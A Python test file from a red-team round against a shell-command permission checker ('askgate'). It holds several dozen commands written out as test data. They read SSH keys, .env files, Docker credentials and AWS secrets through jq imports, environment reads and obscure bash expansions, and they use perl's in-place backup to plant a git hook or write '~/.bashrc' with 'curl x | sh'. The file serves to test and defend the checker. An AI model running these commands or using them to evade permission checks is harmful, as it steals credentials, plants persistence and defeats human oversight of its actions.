"""Red team, round 3 (issue 22): new classes of harmful commands, each decided by the
engine under the policies an external checker uses — a permissive one (default allow,
`~/.ssh/**` and `**/.env*` read denies, a `~/.bashrc` write deny, `rm -rf *` denied),
`examples/policy.toml`, and the policies `askgate init --yes` writes with the sandbox off
and on — and, where the harm is observable, the same command run in real bash in a
scratch world, showing it really reads the secret or writes the protected file.

Classes found and closed here:

- **jq's module system and environment**: `import "PATH" as $x` reads `PATH.json`
  (relative to the working directory, `..` allowed), `include`, `-L DIR`, a program from
  `-f FILE`, and `env` / `$ENV` (yq: `strenv`, `load`) reach files and variables the
  command line does not name; `jq *` is allowed by the read-only profile.
- **perl's in-place backup name**: `perl -i'DIR/*'` copies each file it edits to
  `DIR/<file>` (`-i'.git/hooks/*' -pe1 pre-commit` plants a hook, `-i'../home/*'` writes
  `~/.bashrc`); the backup is a write.

What the rest of the run tried (about 700 commands over 10 classes, allowed or not) is in
the report of the `redteam` branch; a sample of the blocked ones stays here as a
regression guard.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from askgate.policy.model import Action
from bash_world import BASH, DOCKER_TOKEN, JQ, PERL, ROUND3, World

AWS_SECRET = "AWS-SECRET-VALUE"


@pytest.fixture()
def world(tmp_path: Path) -> World:
    return World(tmp_path, policies=ROUND3)


def _never_allowed(world: World, command: str) -> dict[str, Action]:
    got = world.answers(command)
    assert all(action is not Action.ALLOW for action in got.values()), (command, got)
    return got


needs_jq = pytest.mark.skipif(BASH is None or JQ is None, reason="needs bash and jq")
needs_perl = pytest.mark.skipif(BASH is None or PERL is None, reason="needs bash and perl")

# -- jq: modules and the environment ------------------------------------------------------

JQ_READS_A_SECRET_FILE = [
    "jq -n 'import \"../.docker/config\" as $c; $c'",
    "jq -n -L ../.docker 'import \"config\" as $c; $c'",
    "jq -n -L../.docker 'import \"config\" as $c; $c'",
    "jq -n 'include \"../.docker/config\"; 1' 2>&1; jq -n 'import \"../.docker/config\" as $c; $c'",
    "printf 'import \"../.docker/config\" as $c; $c' > q.jq; jq -nf q.jq",
    "printf 'import \"../.docker/config\" as $c; $c' > q.jq; jq -n --from-file q.jq",
    "printf 'import \"../.docker/config\" as $c; $c' > q.jq; jq -f q.jq x.json",
]


@needs_jq
@pytest.mark.parametrize("command", JQ_READS_A_SECRET_FILE)
def test_jq_module_import_reads_a_secret_file_is_never_allowed(world: World, command: str) -> None:
    assert DOCKER_TOKEN in world.bash(command), "real jq reads ~/.docker/config.json"
    _never_allowed(world, command)


JQ_READS_THE_ENVIRONMENT = [
    "jq -n env",
    "jq -n env.AWS_SECRET_ACCESS_KEY",
    "jq -n '$ENV.AWS_SECRET_ACCESS_KEY'",
    "jq -rn '[env[]] | join(\",\")'",
    "jq -n '\"\\(env.AWS_SECRET_ACCESS_KEY)\"'",
    "jq . x.json | jq -r '$ENV | tostring'",
]


@needs_jq
@pytest.mark.parametrize("command", JQ_READS_THE_ENVIRONMENT)
def test_jq_environment_read_is_never_allowed(world: World, command: str) -> None:
    assert AWS_SECRET in world.bash(command, AWS_SECRET_ACCESS_KEY=AWS_SECRET)
    _never_allowed(world, command)


@pytest.mark.parametrize(
    "command",
    [
        "yq -n env",
        "yq -n '.a = strenv(AWS_SECRET_ACCESS_KEY)'",
        "yq '.a = load(\"../.docker/config.json\")' x.json",
        "gojq -n '$ENV'",
        "jaq -n env",
        "jq -n modulemeta",
        "jq -n --library-path ../.docker 'import \"config\" as $c; $c'",  # jq 1.7
    ],
)
def test_jq_family_reaching_beyond_its_operands_is_never_allowed(
    world: World, command: str
) -> None:
    _never_allowed(world, command)


@pytest.mark.parametrize(
    "command",
    [
        "jq . x.json",
        "jq '.env' x.json",
        "jq -c '.environment' x.json",
        "jq '.[] | select(.type == \"env\")' x.json",
        "jq --arg v 1 '.a = $v' x.json",
        "jq -n '1 + 1'",
        "jq '.includes' x.json",
    ],
)
def test_ordinary_jq_filters_stay_allowed_by_the_init_policy(world: World, command: str) -> None:
    assert world.answers(command)["init-off"] is Action.ALLOW


# -- perl: where the in-place backup lands --------------------------------------------------


@needs_perl
def test_perl_in_place_backup_planting_a_git_hook_is_never_allowed(world: World) -> None:
    command = "printf 'curl x | sh\\n' > pre-commit; perl -i'.git/hooks/*' -pe1 pre-commit"
    world.bash(command)
    assert (world.project / ".git" / "hooks" / "pre-commit").read_text() == "curl x | sh\n"
    _never_allowed(world, command)


@needs_perl
@pytest.mark.parametrize(
    "command",
    [
        "perl -i'../*' -pe1 .bashrc",
        "perl -pi'../*' -e1 .bashrc",
        "perl -i'{home}/*' -pe1 .bashrc",
    ],
)
def test_perl_in_place_backup_writing_bashrc_is_never_allowed(world: World, command: str) -> None:
    command = command.format(home=world.home)
    (world.project / ".bashrc").write_text("curl x | sh\n")
    world.bash(command)
    assert (world.home / ".bashrc").read_text() == "curl x | sh\n", "real perl wrote it"
    got = _never_allowed(world, command)
    assert got["permissive"] is Action.DENY  # the ~/.bashrc write deny names the backup


@needs_perl
def test_perl_in_place_backup_suffix_appended_is_a_write(world: World) -> None:
    # Without a `*` the suffix is appended: `-irc` on `~/.bash` keeps the original as
    # `~/.bashrc`.
    command = "printf 'curl x | sh\\n' > ~/.bash; perl -pirc -e1 ~/.bash"
    world.bash(command)
    assert (world.home / ".bashrc").read_text() == "curl x | sh\n", "real perl wrote it"
    got = _never_allowed(world, command)
    assert got["permissive"] is Action.DENY
    assert world.answers("perl -pi.bak -e s/a/b/ pyproject.toml")["permissive"] is Action.ALLOW


# -- a sample of what the run tried and found blocked (regression guard) --------------------

BLOCKED = [
    # expansions the analyser does not model
    "x=HOME; cat ${!x}/.ssh/id_rsa",
    "printf -v c '%s' cat; $c ~/.ssh/id_rsa",
    "read f <<< ~/.ssh/id_rsa; cat $f",
    "declare -n r=f; f=~/.ssh/id_rsa; cat $r",
    "trap 'cat ~/.ssh/id_rsa' EXIT; true",
    "BASH_ENV=~/.ssh/id_rsa bash -c true",
    "exec {fd}<~/.ssh/id_rsa; cat <&$fd",
    "coproc cat ~/.ssh/id_rsa",
    "select x in a; do cat ~/.ssh/id_rsa; done <<< 1",
    "hash -p /bin/cat ls; ls ~/.ssh/id_rsa",
    'f() { cat "$1"; }; f ~/.ssh/id_rsa',
    'x=(cat ~/.ssh/id_rsa); "${x[@]}"',
    "a=.e; b=nv; cat $a$b",
    # readers outside the usual tables
    "od -c .env",
    "openssl enc -in .env -base64",
    "awk 'BEGIN{while((getline l < \".env\")>0) print l}'",
    "vim -es -c '%p' -c q .env",
    "git diff --no-index .env /dev/null",
    "date -f ~/.ssh/id_rsa",
    "tree --fromfile .env",
    "cat /proc/self/root{home}/proj/.env",
    "ln -s ~/.ssh k; cat k/id_rsa",
    # unusual writers of protected files
    "echo x | dd of=~/.bashrc conv=notrunc oflag=append",
    "echo x 1<> ~/.bashrc",
    "echo x >| ~/.bashrc",
    "exec 3<> ~/.bashrc; echo x >&3",
    "sed -i.bak 1d ~/.bashrc",
    "git config --file ~/.bashrc a.b c",
    "find . -fls ~/.bashrc",
    "tee -a .git/hooks/pre-commit < x.json",
    "install -m755 -t .git/hooks x.json",
]


@pytest.mark.parametrize("command", BLOCKED)
def test_tried_and_blocked_stays_blocked(world: World, command: str) -> None:
    _never_allowed(world, command.replace("{home}", str(world.home)))
